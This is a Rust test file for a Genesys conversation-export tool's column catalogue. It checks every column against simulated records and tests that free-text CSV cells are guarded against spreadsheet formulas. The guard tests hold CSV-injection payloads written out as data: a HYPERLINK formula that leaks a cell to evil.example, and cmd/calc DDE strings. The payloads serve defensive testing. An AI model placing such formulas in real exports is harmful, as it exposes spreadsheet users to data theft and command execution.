//! The column catalogue: every column against values computed here from the simulator's
//! records (the generated ones and the samples shaped like published ones), `--columns list`
//! against the README, the refusals, denied name lookups, the default columns, resuming with
//! other columns and the formula guard of free-text cells.

use std::collections::HashMap;

use genesys_sim::{Sim, SimConfig};
use serde_json::Value;

use crate::util::*;

/// The twelve columns of an export without `--columns`, in their order.
const DEFAULT: &str = "conversation_id,conversation_start,conversation_end,originating_direction,\
media_types,queue_ids,queue_names,user_ids,ani,dnis,wrap_up_codes,division_ids";

fn sim_with(cfg: SimConfig) -> Sim {
    Sim::start(SimConfig {
        conversations: 1200,
        ..cfg
    })
}

/// The names `--columns list` prints, in order.
fn listed(sim: &Sim) -> Vec<String> {
    let run = export(sim, ["--columns", "list"]);
    run.expect_code(0);
    run.stdout
        .lines()
        .map(|line| line.split_whitespace().next().unwrap().to_string())
        .collect()
}

/// Every participant's sessions.
fn sessions(c: &Value) -> impl Iterator<Item = (&Value, &Value)> {
    c["participants"].as_array().unwrap().iter().flat_map(|p| {
        p["sessions"]
            .as_array()
            .unwrap()
            .iter()
            .map(move |s| (p, s))
    })
}

/// The ids of the simulator's sample records, shaped like records real orgs published.
const SAMPLE_IDS: [&str; 7] = [
    "5a000000-0000-4000-8000-000000000001",
    "5a000000-0000-4000-8000-000000000002",
    "xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx",
    "5a000000-0000-4000-8000-000000000004",
    "5a000000-0000-4000-8000-000000000005",
    "5a000000-0000-4000-8000-000000000006",
    "5a000000-0000-4000-8000-000000000007",
];

/// Every segment, with its participant.
fn segments(c: &Value) -> impl Iterator<Item = (&Value, &Value)> {
    sessions(c).flat_map(|(p, s)| {
        s["segments"]
            .as_array()
            .unwrap()
            .iter()
            .map(move |g| (p, g))
    })
}

/// Distinct non-empty strings in first-seen order.
fn distinct<'a>(values: impl Iterator<Item = Option<&'a str>>) -> Vec<&'a str> {
    let mut out: Vec<&str> = Vec::new();
    for v in values.flatten().filter(|v| !v.is_empty()) {
        if !out.contains(&v) {
            out.push(v);
        }
    }
    out
}

/// The sum of the session metrics of this name, or "" when none carries it.
fn metric(c: &Value, name: &str) -> String {
    let values: Vec<i64> = sessions(c)
        .flat_map(|(_, s)| s["metrics"].as_array().into_iter().flatten())
        .filter(|m| m["name"] == name)
        .map(|m| m["value"].as_i64().unwrap())
        .collect();
    if values.is_empty() {
        String::new()
    } else {
        values.iter().sum::<i64>().to_string()
    }
}

fn text(c: &Value, field: &str) -> String {
    c[field].as_str().unwrap_or_default().to_string()
}

/// The free-text columns, whose cells the export guards against formulas by default.
const FREE_TEXT: [&str; 4] = ["queue_names", "user_names", "wrap_up_names", "external_tag"];

/// A free-text cell as a spreadsheet must see it: every `;`-separated value that begins with
/// `=`, `+`, `-`, `@`, a tab or a CR gets a leading apostrophe.
fn guarded(cell: &str) -> String {
    cell.split(';')
        .map(
            |value| match value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                true => format!("'{value}"),
                false => value.to_string(),
            },
        )
        .collect::<Vec<_>>()
        .join(";")
}

/// The cell a column holds in an export with the formula guard (the default).
fn expected_guarded(column: &str, c: &Value, sim: &Sim) -> String {
    let cell = expected(column, c, sim);
    match FREE_TEXT.contains(&column) {
        true => guarded(&cell),
        false => cell,
    }
}

/// The cell a column should hold for this record, computed from the record itself and the
/// simulator's names. A column without an entry here fails the test: every column is checked.
fn expected(column: &str, c: &Value, sim: &Sim) -> String {
    let session_field =
        |field: &str| distinct(sessions(c).map(|(_, s)| s[field].as_str())).join(";");
    let queue_ids = distinct(segments(c).map(|(_, g)| g["queueId"].as_str()));
    let user_ids = distinct(
        c["participants"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p["userId"].as_str()),
    );
    let wrap_ups = distinct(segments(c).map(|(_, g)| g["wrapUpCode"].as_str()));
    match column {
        "conversation_id" => text(c, "conversationId"),
        "conversation_start" => text(c, "conversationStart"),
        "conversation_end" => text(c, "conversationEnd"),
        "originating_direction" => text(c, "originatingDirection"),
        "media_types" => session_field("mediaType"),
        "queue_ids" => queue_ids.join(";"),
        "queue_names" => queue_ids
            .iter()
            .map(|id| sim.queue_name(id).unwrap_or_default())
            .collect::<Vec<_>>()
            .join(";"),
        "user_ids" => user_ids.join(";"),
        "ani" => session_field("ani"),
        "dnis" => session_field("dnis"),
        "wrap_up_codes" => wrap_ups.join(";"),
        "division_ids" => distinct(
            c["divisionIds"]
                .as_array()
                .into_iter()
                .flatten()
                .map(Value::as_str),
        )
        .join(";"),
        "user_names" => user_ids
            .iter()
            .map(|id| sim.user_name(id).unwrap_or_default())
            .collect::<Vec<_>>()
            .join(";"),
        "wrap_up_names" => wrap_ups
            .iter()
            .map(|id| match id.starts_with("ININ-") {
                true => id.to_string(),
                false => sim.wrapup_code_name(id).unwrap_or_default(),
            })
            .collect::<Vec<_>>()
            .join(";"),
        "t_talk" => metric(c, "tTalk"),
        "t_held" => metric(c, "tHeld"),
        "t_acw" => metric(c, "tAcw"),
        "t_handle" => metric(c, "tHandle"),
        "t_acd" => metric(c, "tAcd"),
        "t_abandon" => metric(c, "tAbandon"),
        "t_ivr" => metric(c, "tIvr"),
        "t_alert" => metric(c, "tAlert"),
        "t_answered" => metric(c, "tAnswered"),
        "n_offered" => metric(c, "nOffered"),
        "n_transfers" => metric(c, "nTransferred"),
        "abandoned" => {
            // Only a conversation offered to a queue can be abandoned.
            let offered = metric(c, "nOffered").parse::<i64>().is_ok_and(|n| n > 0);
            let abandon = sessions(c).any(|(_, s)| {
                s["metrics"]
                    .as_array()
                    .is_some_and(|ms| ms.iter().any(|m| m["name"] == "tAbandon"))
            });
            match (offered, abandon, c.get("conversationEnd").is_some()) {
                (false, _, _) => "",
                (true, true, _) => "true",
                (true, false, true) => "false",
                (true, false, false) => "",
            }
            .to_string()
        }
        "customer_disconnect_type" => distinct(
            segments(c)
                .filter(|(p, _)| p["purpose"] == "customer")
                .map(|(_, g)| g["disconnectType"].as_str()),
        )
        .join(";"),
        "external_tag" => text(c, "externalTag"),
        "conversation_initiator" => text(c, "conversationInitiator"),
        // The number as the record writes it.
        "min_mos" => c
            .get("mediaStatsMinConversationMos")
            .map(Value::to_string)
            .unwrap_or_default(),
        // Without --tz the zone is UTC: the start with its offset written out, and its date.
        "conversation_start_local" => {
            let utc = time::macros::format_description!(
                "[year]-[month]-[day]T[hour]:[minute]:[second].[subsecond digits:3]+00:00"
            );
            ts(&text(c, "conversationStart")).format(&utc).unwrap()
        }
        "conversation_date_local" => text(c, "conversationStart")[..10].to_string(),
        other => panic!("column {other} has no independent check in tests/columns.rs"),
    }
}

/// Exports every column of `sim`'s range through `mode` and checks each cell of each row
/// against the record it comes from, and the ids against the ground truth; returns the rows,
/// with the columns.
fn every_column_checked(sim: &Sim, mode: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let columns = listed(sim);
    assert!(columns.len() >= 30, "{columns:?}");
    let dir = Dir::new("columns-all");
    let out = dir.join("c.csv");
    let run = export(
        sim,
        &Args::range()
            .mode(mode)
            .opt("--columns", &columns.join(","))
            .out(&out),
    );
    run.expect_code(0);
    let text = read(&out);
    assert_eq!(text.lines().next().unwrap(), columns.join(","));
    let records = csv_records(&text);
    let id_at = columns.iter().position(|c| c == "conversation_id").unwrap();
    let ids: Vec<String> = records.iter().map(|r| r[id_at].to_string()).collect();
    assert_same_ids(&ids, &sim.ground_truth(ts(FROM), ts(TO)));
    // How often each column holds something, and the values `abandoned` takes.
    let mut filled: HashMap<&str, usize> = HashMap::new();
    let mut abandoned: HashMap<String, usize> = HashMap::new();
    for record in &records {
        let c = sim.conversation(&record[id_at]).unwrap();
        for (i, column) in columns.iter().enumerate() {
            let want = expected_guarded(column, &c, sim);
            assert_eq!(&record[i], want, "{mode}: {column} of {}", &record[id_at]);
            *filled.entry(column).or_default() += usize::from(!want.is_empty());
        }
        let at = columns.iter().position(|c| c == "abandoned").unwrap();
        *abandoned.entry(record[at].to_string()).or_default() += 1;
    }
    for column in &columns {
        assert!(
            filled.get(column.as_str()).is_some_and(|n| *n > 0),
            "{mode}: the data never fills {column}"
        );
    }
    for value in ["true", "false", ""] {
        assert!(
            abandoned.contains_key(value),
            "{mode}: abandoned {value:?}: {abandoned:?}"
        );
    }
    (columns, records)
}

#[test]
fn every_catalogue_column_agrees_with_the_simulator_records() {
    let sim = sim_with(SimConfig::default());
    for mode in ["query", "jobs"] {
        every_column_checked(&sim, mode);
        // Names are looked up in bulk, once per id for the run: there are 24 users.
        let stats = sim.stats();
        assert!(
            stats.user_requests > 0 && stats.wrapup_code_requests > 0,
            "{stats:?}"
        );
    }
}

#[test]
fn every_catalogue_column_agrees_with_records_shaped_like_published_ones() {
    let plain = sim_with(SimConfig::default());
    let sim = sim_with(SimConfig {
        samples: true,
        ..SimConfig::default()
    });
    // The samples are added beside what the seed generates, which stays as it was.
    let generated = plain.ground_truth(ts(FROM), ts(TO));
    let mut with_samples = sim.ground_truth(ts(FROM), ts(TO));
    with_samples.retain(|id| !SAMPLE_IDS.contains(&id.as_str()));
    assert_eq!(with_samples, generated);
    for id in &generated[..50] {
        assert_eq!(sim.conversation(id), plain.conversation(id));
    }
    for mode in ["query", "jobs"] {
        let (columns, records) = every_column_checked(&sim, mode);
        let at = |name: &str| columns.iter().position(|c| c == name).unwrap();
        let row = |id: &str| {
            records
                .iter()
                .find(|r| &r[at("conversation_id")] == id)
                .unwrap_or_else(|| panic!("{mode}: sample {id} not exported"))
        };
        for id in SAMPLE_IDS {
            row(id);
        }
        // What the definitions say, on the samples: no queue, no abandon verdict; the agent
        // who never answered counts in handle time; names that are formulas are neutralised
        // and phone numbers are not.
        assert_eq!(&row(SAMPLE_IDS[3])[at("abandoned")], "");
        assert_eq!(&row(SAMPLE_IDS[4])[at("abandoned")], "");
        assert_eq!(&row(SAMPLE_IDS[2])[at("abandoned")], "");
        assert_eq!(&row(SAMPLE_IDS[0])[at("t_handle")], "400000");
        assert_eq!(&row(SAMPLE_IDS[1])[at("n_offered")], "6");
        assert_eq!(&row(SAMPLE_IDS[1])[at("n_transfers")], "5");
        let hostile = row(SAMPLE_IDS[6]);
        assert!(
            hostile[at("queue_names")].starts_with("'=HYPERLINK("),
            "{hostile:?}"
        );
        assert_eq!(&hostile[at("user_names")], "'+Mallory =cmd");
        assert_eq!(&hostile[at("ani")], "+3312345");
    }
}

#[test]
fn names_are_looked_up_once_per_id_and_only_when_a_column_needs_them() {
    let sim = sim_with(SimConfig::default());
    let run = export(
        &sim,
        &Args::range()
            .mode("query")
            .window("1h")
            .opt("--columns", "conversation_id,user_names"),
    );
    run.expect_code(0);
    let stats = sim.stats();
    // 24 agents: each page looks up only the users not seen yet, so the lookups stop early.
    assert!(
        (1..=24).contains(&stats.user_requests),
        "{} user lookups",
        stats.user_requests
    );
    assert_eq!(stats.queue_requests, 0, "no queue column, no queue lookup");
    assert_eq!(stats.wrapup_code_requests, 0);
    let run = export(
        &sim,
        &Args::range()
            .mode("query")
            .opt("--columns", "conversation_id,t_talk"),
    );
    run.expect_code(0);
    let after = sim.stats();
    assert_eq!(after.user_requests, stats.user_requests);
    assert_eq!(after.queue_requests, 0);
}

#[test]
fn columns_list_names_the_readme_schema_table_in_order() {
    let sim = sim_with(SimConfig::default());
    let run = export(&sim, ["--columns", "list"]);
    run.expect_code(0);
    assert_eq!(run.stderr, "");
    for line in run.stdout.lines() {
        let mut parts = line.splitn(2, ' ');
        let (name, description) = (parts.next().unwrap(), parts.next().unwrap_or("").trim());
        assert!(!description.is_empty(), "{name} has no description");
    }
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let table: Vec<String> = readme
        .lines()
        .skip_while(|l| !l.starts_with("| column | source in the conversation record |"))
        .skip(2)
        .take_while(|l| l.starts_with('|'))
        .map(|l| l.split('`').nth(1).unwrap().to_string())
        .collect();
    assert_eq!(table, listed(&sim));
    assert_eq!(table[..12].join(","), DEFAULT);
    assert_eq!(sim.stats().api_requests + sim.stats().token_requests, 0);
}

#[test]
fn unknown_repeated_and_jsonl_columns_exit_2_before_anything_is_sent() {
    let sim = sim_with(SimConfig::default());
    let dir = Dir::new("columns-refused");
    let out = dir.join("c.csv");
    for (columns, extra, why) in [
        (
            "conversation_id,talk_time",
            Args::new(),
            "unknown column 'talk_time' (see --columns list)",
        ),
        (
            "conversation_id,t_talk,t_talk",
            Args::new(),
            "--columns names t_talk twice",
        ),
        (
            "conversation_id,t_talk",
            Args::new().format("jsonl"),
            "--columns picks CSV columns",
        ),
        (
            "t_talk",
            Args::new(),
            "--columns needs conversation_id when writing to a file",
        ),
    ] {
        let run = export(
            &sim,
            &Args::range()
                .opt("--columns", columns)
                .with(&extra)
                .out(&out),
        );
        run.expect_code(2);
        assert!(run.stderr.contains(why), "{columns}: {}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    }
    assert!(dir.files().is_empty(), "{:?}", dir.files());
    let stats = sim.stats();
    assert_eq!(stats.api_requests + stats.token_requests, 0);
}

#[test]
fn denied_name_lookups_leave_names_empty_with_one_warning_each() {
    let sim = sim_with(SimConfig {
        users_forbidden: true,
        wrapup_codes_forbidden: true,
        ..SimConfig::default()
    });
    let columns = "conversation_id,user_ids,user_names,wrap_up_codes,wrap_up_names,queue_names";
    let run = export(
        &sim,
        &Args::range()
            .mode("query")
            .window("6h")
            .opt("--columns", columns),
    );
    run.expect_code(0);
    let warnings = |needle: &str| run.stderr.lines().filter(|l| l.contains(needle)).count();
    assert_eq!(
        warnings("user names are left empty: the OAuth client's role lacks directory:user:view"),
        1,
        "{}",
        run.stderr
    );
    assert_eq!(warnings("wrap-up code names are left empty: the OAuth client's role lacks routing:wrapupCode:view"), 1, "{}", run.stderr);
    let mut named_queues = 0;
    let mut system_codes = 0;
    for record in csv_records(&run.stdout) {
        // Positional: as many (empty) names as ids.
        let users = record[1].split(';').filter(|s| !s.is_empty()).count();
        assert_eq!(record[2], ";".repeat(users.saturating_sub(1)), "{record:?}");
        let codes: Vec<&str> = record[3].split(';').filter(|s| !s.is_empty()).collect();
        let names: Vec<String> = codes
            .iter()
            .map(|c| {
                if c.starts_with("ININ-") {
                    c.to_string()
                } else {
                    String::new()
                }
            })
            .collect();
        system_codes += names.iter().filter(|n| !n.is_empty()).count();
        assert_eq!(record[4], names.join(";"), "{record:?}");
        named_queues += usize::from(!record[5].replace(';', "").is_empty());
    }
    assert!(system_codes > 0 && named_queues > 0);
    // One refused request each: the rest of the run does not ask again.
    let stats = sim.stats();
    assert_eq!((stats.user_requests, stats.wrapup_code_requests), (1, 1));
}

#[test]
fn default_columns_are_the_twelve_of_before_byte_for_byte() {
    let sim = sim_with(SimConfig::default());
    let dir = Dir::new("columns-default");
    let plain = dir.join("plain.csv");
    let named = dir.join("named.csv");
    export(&sim, &Args::range().out(&plain)).expect_code(0);
    let stats = sim.stats();
    assert_eq!((stats.user_requests, stats.wrapup_code_requests), (0, 0));
    export(&sim, &Args::range().opt("--columns", DEFAULT).out(&named)).expect_code(0);
    let text = read(&plain);
    assert_eq!(text.lines().next().unwrap(), DEFAULT);
    assert_eq!(text, read(&named));
}

#[test]
fn resuming_with_other_columns_exits_2_and_the_same_columns_resume() {
    let sim = sim_with(SimConfig::default());
    let dir = Dir::new("columns-resume");
    let out = dir.join("c.csv");
    let reference = dir.join("reference.csv");
    let picked = "t_handle,conversation_id,user_names,abandoned";
    let args = Args::range()
        .mode("query")
        .window("6h")
        .opt("--columns", picked);
    export(&sim, &args.clone().out(&reference)).expect_code(0);
    let args = args.out(&out);
    crash_at(&sim, &args, &out, "state-saved:3");
    let other = args
        .clone()
        .set("--columns", "conversation_id,user_names,abandoned");
    refused_as_another_export(&sim, &other, &out);
    // The same columns resume, reading the ids back from the second column.
    export(&sim, &args).expect_code(0);
    assert_eq!(read(&out), read(&reference));
}

#[test]
fn free_text_is_guarded_against_formulas_unless_raw_and_json_lines_is_untouched() {
    let sim = sim_with(SimConfig {
        samples: true,
        ..SimConfig::default()
    });
    let hostile = SAMPLE_IDS[6];
    let columns = "conversation_id,queue_names,user_names,wrap_up_names,external_tag,ani,dnis";
    let args = Args::range()
        .mode("jobs")
        .window("6h")
        .opt("--columns", columns)
        .opt("--attribute", "note");
    let row_of = |run: &Run| {
        run.expect_code(0);
        let records = csv_records(&run.stdout);
        records.into_iter().find(|r| &r[0] == hostile).unwrap()
    };
    let guarded = row_of(&export(&sim, &args));
    assert_eq!(
        guarded.iter().collect::<Vec<_>>(),
        [
            hostile,
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
            "'+Mallory =cmd",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'-2+3;'=cmd|' /C calc'!A0",
            "+3312345",
            "+18005550100",
            "'=1+1",
        ]
    );
    let raw = row_of(&export(&sim, &args.clone().flag("--no-formula-guard")));
    assert_eq!(
        raw.iter().collect::<Vec<_>>(),
        [
            hostile,
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")",
            "+Mallory =cmd",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3;=cmd|' /C calc'!A0",
            "+3312345",
            "+18005550100",
            "=1+1",
        ]
    );
    // JSON Lines is the API's record: never guarded, and the option is refused there.
    let run = export(&sim, &Args::range().mode("query").format("jsonl"));
    run.expect_code(0);
    let line = run.stdout.lines().find(|l| l.contains(hostile)).unwrap();
    let record: Value = serde_json::from_str(line).unwrap();
    assert_eq!(record, sim.conversation(hostile).unwrap());
    assert_eq!(record["externalTag"], "-2+3;=cmd|' /C calc'!A0");
    let run = export(
        &sim,
        &Args::range().format("jsonl").flag("--no-formula-guard"),
    );
    run.expect_code(2);
    assert!(
        run.stderr.contains("--no-formula-guard is for CSV cells"),
        "{}",
        run.stderr
    );
}

#[test]
fn resuming_with_the_other_formula_setting_exits_2() {
    let sim = sim_with(SimConfig {
        samples: true,
        ..SimConfig::default()
    });
    let dir = Dir::new("columns-formulas");
    let out = dir.join("c.csv");
    let reference = dir.join("reference.csv");
    let args = Args::range()
        .mode("query")
        .window("6h")
        .opt("--columns", "conversation_id,queue_names,external_tag");
    export(&sim, &args.clone().out(&reference)).expect_code(0);
    let args = args.out(&out);
    crash_at(&sim, &args, &out, "state-saved:3");
    refused_as_another_export(&sim, &args.clone().flag("--no-formula-guard"), &out);
    export(&sim, &args).expect_code(0);
    assert_eq!(read(&out), read(&reference));
    assert!(read(&out).contains("\"'=HYPERLINK("), "the guarded cell");
}
